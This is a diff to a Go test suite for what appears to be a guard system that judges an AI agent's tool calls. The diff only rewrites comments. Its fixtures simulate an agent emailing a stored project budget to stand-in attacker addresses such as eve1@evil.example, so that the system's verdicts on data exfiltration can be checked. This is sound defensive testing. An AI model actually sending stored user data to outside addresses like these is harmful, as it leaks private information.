@@ -18,7 +18,7 @@ import (
 	"lazaret/streams"
 )
 
-// said is what of a verdict does not depend on when it was given.
+// said is the part of a verdict that does not depend on time.
 func said(v *streams.VerdictEntry) string {
 	var b strings.Builder
 	fmt.Fprintf(&b, "%s %s %s", v.ID, v.Verdict, v.Level)
@@ -58,7 +58,7 @@ func TestATrimmedLedgerChangesNoVerdictAndLosesNothing(t *testing.T) {
 			if _, err := p.c.Remember(h.ctx(), "user", &streams.Memory{Head: streams.Head{ID: "m" + id, Session: "s" + id}, Key: "k" + id, Content: "The budget of project " + id + " is 100 crowns."}); err != nil {
 				t.Fatal(err)
 			}
-			// What was read first of all weighs on what is done now.
+			// Early reads still count for later actions.
 			for _, to := range []string{"eve1@evil.example", "eve" + id + "@evil.example", "bob@work.example"} {
 				v := h.decide(&streams.Action{Head: streams.Head{ID: fmt.Sprintf("a%s-%s", id, strings.Split(to, "@")[0]), Session: "s" + id}, Tool: "send_email", Args: jsontext.Value(fmt.Sprintf(`{"to":%q,"body":"the budget"}`, to))})
 				out[i] += said(v) + "\n"
@@ -182,7 +182,7 @@ func TestATrimmedLedgerChangesNoVerdictAndLosesNothing(t *testing.T) {
 	}
 	again()
 	say()
-	// Who lost an answer is told the same.
+	// A repeat gets the same verdict.
 	v := h.decide(&streams.Action{Head: streams.Head{ID: "a1-eve1", Session: "s1"}, Tool: "send_email", Args: jsontext.Value(`{"to":"eve1@evil.example","body":"the budget"}`)})
 	if !v.Again || !strings.HasPrefix(given[0], said(v)) {
 		t.Errorf("asked again: %s\nwas %s", said(v), given[0])
@@ -199,7 +199,7 @@ func TestATrimmedLedgerChangesNoVerdictAndLosesNothing(t *testing.T) {
 	}
 }
 
-// What a snapshot holds is forgotten too, and the stage can still be restored.
+// Snapshots are forgotten too, and the stage can still be restored.
 func TestWhatIsForgottenIsInNoSnapshotOfATrimmedPipeline(t *testing.T) {
 	long(t)
 	data, addr := t.TempDir(), freePort(t)
@@ -221,7 +221,7 @@ func TestWhatIsForgottenIsInNoSnapshotOfATrimmedPipeline(t *testing.T) {
 	}
 	must(t, data, "audit", "trim", "--older", "0s")
 	in := func(word string) string { return strings.Join(filesWith(t, data, word), " ") }
-	// This can fail: they are there before.
+	// This can fail: they hold it before.
 	if f := in(secret); !strings.Contains(f, "ingest.snapshot/") && !strings.Contains(f, "arbiter.snapshot/") {
 		t.Errorf("it is in no snapshot: %s", f)
 	}
